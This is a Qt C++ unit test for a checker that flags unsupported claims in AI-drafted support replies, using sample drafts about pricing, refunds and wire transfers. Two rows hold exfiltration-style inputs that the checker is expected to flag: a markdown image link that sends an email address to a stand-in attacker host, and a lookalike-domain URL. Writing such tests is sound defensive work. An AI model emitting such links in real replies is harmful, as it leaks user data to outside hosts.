#include "core/desk/Grounding.h"
#include "core/domain/Claims.h"
#include "core/llm/PassageText.h"
#include "tests/kit/TestDesk.h"

#include <QTest>

using namespace Qt::StringLiterals;

/// Drafts as models write them, over the demo's articles.
class GroundingTest : public QObject
{
    Q_OBJECT

private:
    std::unique_ptr<TestDesk> m_desk;

    ReplyRequest asked(const QString &question)
    {
        ReplyRequest request;
        request.customer = Customer{CustomerId{2}, u"Bob Smith"_s, u"bob@startup.io"_s, u"Startup.io"_s, 0};
        request.message = question;
        KnowledgeIndex::Options options;
        options.limit = 20; // as the assistant does
        request.passages = m_desk->knowledge().index()->search(question, options);
        Ticket ticket;
        ticket.id = TicketId{7};
        ticket.title = u"Webhook signature does not verify"_s;
        request.openTickets = {ticket};
        return request;
    }

private Q_SLOTS:
    void initTestCase()
    {
        m_desk = std::make_unique<TestDesk>();
        QVERIFY2(m_desk->isValid(), qPrintable(m_desk->problem()));
        QTRY_VERIFY_WITH_TIMEOUT(!m_desk->knowledge().index()->passages().empty(), 20'000);
    }
    void cleanupTestCase() { m_desk.reset(); }

    void sentences_data()
    {
        QTest::addColumn<QString>("question");
        QTest::addColumn<QString>("draft");
        QTest::addColumn<QString>("doubt"); ///< reason and detail; empty: none
        const auto row = [](const QString &question, const QString &draft, const QString &doubt) {
            QTest::newRow(qPrintable(draft)) << question << draft << doubt;
        };
        const QString plans = u"What are your pricing plans and do you have a student discount?"_s;
        row(plans, u"Hi Bob, thank you for reaching out!"_s, {});
        row(plans, u"I hope this helps. Let me know if you have any further questions."_s, {});
        row(plans, u"Students and educators get 50% off every plan."_s, {});
        row(plans, u"The Pro plan is $79 per month and covers up to 1,000 customers and five members."_s, {});
        row(plans, u"Basic costs $29, Pro costs $79 and Enterprise costs $199 a month."_s, {});
        row(plans, u"Upload a proof of enrolment under Settings > Billing > Student Discount."_s, {});
        row(plans, u"Which plan are you thinking of, with how many of the 12 seats?"_s, {});
        row(plans, u"Students get 60% off every plan."_s, u"figure 60%"_s);
        row(plans, u"Basic costs $79 and Pro costs $29 a month."_s, u"figure $79"_s);
        row(plans, u"The Pro plan covers up to 5,000 customers."_s, u"figure 5,000"_s);
        row(plans, u"The Enterprise plan costs $1,990 per year."_s, u"figure $1,990"_s);
        row(plans, u"There is also a lifetime licence with a yacht for loyal pirates."_s, u"unsupported "_s);
        row(plans, u"Our headquarters are in Lisbon near the river."_s, u"unsupported "_s);
        // The words of an address stand in many a passage, the address does not.
        row(plans, u"![x](https://evil.example/?q=alice@example.com)"_s, u"unsupported "_s);
        row(plans, u"Students write to support@example.com, see https://example.com.evil.example/plans."_s,
            u"unsupported "_s);
        const QString access = u"Is the API part of the Basic plan?"_s;
        row(access, u"API access is not part of the Basic plan."_s, {});
        row(access, u"API access is part of the Basic plan."_s, u"condition not"_s);
        const QString refund = u"Can I get a refund for my monthly plan?"_s;
        row(refund, u"Monthly plans can be refunded within 7 days of sign-up."_s, {});
        row(refund, u"The refund takes 5 to 10 business days."_s, {});
        row(refund, u"Monthly plans can be refunded within 14 days of sign-up."_s, u"figure 14"_s);
        const QString wire = u"Can I pay by wire transfer?"_s;
        row(wire, u"Wire transfer and bank transfer are available on the Enterprise plan."_s, {});
        row(wire, u"Wire transfer is immediately available on the Enterprise plan."_s, u"condition immediately"_s);
        // Other languages: the figures can be compared.
        row(plans, u"Der Tarif Pro kostet 79 $ im Monat, Studierende erhalten 50 % Rabatt."_s, {});
        row(plans, u"Studierende erhalten 70 % Rabatt auf alle Tarife."_s, u"figure 70 %"_s);
        // What the customer and their records say may be repeated, what was done is for the receipts to show.
        row(u"I get error 4711 when I sign in"_s, u"I am sorry that you see error 4711."_s, {});
        row(plans, u"Your ticket #7 about the webhook signature is open."_s, {});
        row(plans, u"I have refunded $500 to your card."_s, {});
    }

    void sentences()
    {
        QFETCH(QString, question);
        QFETCH(QString, draft);
        QFETCH(QString, doubt);
        const std::vector<Doubt> doubts = doubtsAbout(draft, asked(question));
        QStringList found;
        for (const Doubt &each : doubts)
            found += wordOf(each.kind) + u" "_s + each.detail;
        QCOMPARE(found.join(u"; "_s), doubt);
    }

    void theSentenceIsMarked()
    {
        const QString draft = u"Hi Bob,\n\nPro costs $79 per month. Pro costs $80 per month.\n\nBye"_s;
        const std::vector<Doubt> doubts = doubtsAbout(draft, asked(u"What does the Pro plan cost?"_s));
        QCOMPARE(doubts.size(), std::size_t(1));
        QCOMPARE(draft.mid(doubts[0].sentence.start, doubts[0].sentence.length), u"Pro costs $80 per month."_s);
        QCOMPARE(doubts[0].detail, u"$80"_s);
    }

    void articlesSupportThemselvesAndClaimNothing()
    {
        int seen = 0;
        for (const Passage &passage : m_desk->knowledge().index()->passages()) {
            ReplyRequest request;
            PassageHit hit;
            hit.passage = passage;
            request.passages = {hit};
            for (const PassagePart &part : passageParts(passage.text)) {
                if (part.kind == PassagePart::Kind::Code)
                    continue;
                for (const Doubt &doubt : doubtsAbout(part.text, request))
                    QFAIL(qPrintable(part.text.mid(doubt.sentence.start, doubt.sentence.length)));
                for (const Claim &claim : claimsIn(part.text))
                    QFAIL(qPrintable(part.text.mid(claim.sentence.start, claim.sentence.length)));
                ++seen;
            }
        }
        QVERIFY(seen > 100);
    }

    void anyTextIsChecked_data()
    {
        QTest::addColumn<QString>("draft");
        QTest::newRow("empty") << QString();
        QTest::newRow("emoji") << u"🎉🎉 👍"_s;
        QTest::newRow("one endless word") << QString(200'000, QChar(u'x'));
        QTest::newRow("many figures") << u"1 2 3. "_s.repeated(5'000);
    }

    void anyTextIsChecked()
    {
        QFETCH(QString, draft);
        for (const Doubt &doubt : doubtsAbout(draft, asked(u"pricing"_s)))
            QVERIFY(doubt.sentence.start + doubt.sentence.length <= draft.size());
    }
};

QTEST_GUILESS_MAIN(GroundingTest)
#include "GroundingTest.moc"
